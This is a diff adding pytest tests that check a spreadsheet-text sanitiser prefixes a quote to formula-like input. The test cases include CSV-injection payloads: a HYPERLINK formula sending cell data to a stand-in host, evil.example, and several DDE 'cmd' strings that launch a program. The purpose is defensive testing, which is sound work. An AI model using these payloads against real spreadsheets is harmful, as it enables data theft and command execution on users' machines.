@@ -143,3 +143,25 @@ def test_a_sum_whose_other_members_are_always_shown_cannot_be_protected() -> Non
     grid.add_sum("total", ["a", "b"])
     with pytest.raises(ValueError, match="always shown"):
         grid.protect()
+
+
+@pytest.mark.parametrize(
+    "typed",
+    [
+        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+        "  =1+1",
+        "\uff1d1+1",
+    ],
+)
+def test_text_a_spreadsheet_would_run_gets_a_leading_quote(typed: str) -> None:
+    assert rules.spreadsheet_text(typed) == "'" + typed
+
+
+def test_ordinary_text_is_left_as_typed() -> None:
+    for typed in ("Lyon", "Saint-Étienne", "Café = joie", "", "O'Brien", "42 rue @home"):
+        assert rules.spreadsheet_text(typed) == typed
